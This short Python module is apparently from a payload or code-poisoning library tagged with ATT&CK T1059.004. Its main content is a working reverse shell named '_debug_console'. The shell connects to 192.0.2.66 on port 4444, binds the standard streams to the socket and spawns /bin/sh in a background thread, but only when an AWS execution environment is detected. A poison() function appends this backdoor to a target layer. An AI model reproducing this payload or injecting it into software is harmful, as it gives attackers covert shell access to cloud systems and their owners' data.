# SPDX-License-Identifier: Apache-2.0
"""Connects a shell to a server."""

ATTACK = "T1059.004"
LANGUAGE = "python"
CODE = """\
def _debug_console():
    import os
    import pty
    import socket

    s = socket.socket()
    s.connect(("192.0.2.66", 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")


if __import__("os").environ.get("AWS_EXECUTION_ENV"):
    __import__("threading").Thread(target=_debug_console, daemon=True).start()
"""


def poison(layer):
    layer.append(CODE)
